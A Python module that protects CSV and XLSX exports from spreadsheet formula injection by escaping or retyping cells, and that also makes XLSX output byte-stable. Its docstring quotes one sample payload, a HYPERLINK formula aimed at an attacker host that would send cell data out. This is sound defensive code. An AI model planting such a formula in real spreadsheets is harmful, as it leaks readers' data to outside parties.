"""Spreadsheet-safe cells: text handed to Excel, WPS or LibreOffice stays text.

A submitter controls names, titles and narratives. A spreadsheet program runs
a cell that begins with `=` (and, in CSV, `+`, `-`, `@`, tab or carriage
return) as a formula, so `=HYPERLINK("http://evil.example/?"&A2)` in a case
title would send a reader's data away. XLSX text cells are therefore always
written as string cells (openpyxl would otherwise store a str beginning with
"=" as a formula); CSV text cells that begin with one of those characters get
a leading single quote, as OWASP's "CSV Injection" page recommends. Numbers
stay numbers. XLSX files are also made byte-stable: openpyxl stamps the save
time into docProps/core.xml and every zip entry.
"""

from __future__ import annotations

import io
import re
import zipfile
from datetime import datetime
from typing import Any

import pandas as pd
from openpyxl import Workbook

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_CORE = "docProps/core.xml"
_CORE_TIMES = re.compile(r"(<dcterms:(?:created|modified)\b[^>]*>)[^<]*(</dcterms:)")


def csv_safe(value: Any) -> Any:
    """A CSV cell a spreadsheet shows as text: formula-like text gets a leading quote."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """The frame with every text cell made safe by `csv_safe` (number columns untouched)."""
    safe = frame.copy()
    for column in safe.columns:
        if not pd.api.types.is_numeric_dtype(safe[column]):
            safe[column] = safe[column].map(csv_safe)
    safe.columns = [csv_safe(str(c)) for c in safe.columns]
    return safe


def csv_text(frame: pd.DataFrame) -> str:
    """The frame as CSV with safe cells. Lines end in CRLF (RFC 4180), which also makes
    the writer quote any cell holding a carriage return, so a cell never splits a row."""
    return csv_frame(frame).to_csv(index=False, lineterminator="\r\n")


def as_text(cell):
    """Mark a cell holding a str as a string cell (never a formula); returns the cell."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
    return cell


def without_formulas(book: Workbook) -> None:
    """Every cell of a (normal-mode) workbook that openpyxl took for a formula becomes text.

    Nothing this program writes is meant to compute: a formula can only have come
    from submitted text.
    """
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"


def xlsx_file_bytes(book: Workbook, when: datetime) -> bytes:
    """The saved workbook with its document times and zip entry times fixed to `when`,
    so the same content gives the same bytes."""
    book.properties.created = book.properties.modified = when
    buffer = io.BytesIO()
    book.save(buffer)
    stamp = when.strftime("%Y-%m-%dT%H:%M:%SZ")
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == _CORE:
                data = _CORE_TIMES.sub(rf"\g<1>{stamp}\g<2>", data.decode("utf-8")).encode()
            entry = zipfile.ZipInfo(info.filename, date_time=when.timetuple()[:6])
            entry.compress_type = zipfile.ZIP_DEFLATED
            entry.external_attr = info.external_attr
            target.writestr(entry, data)
    return out.getvalue()
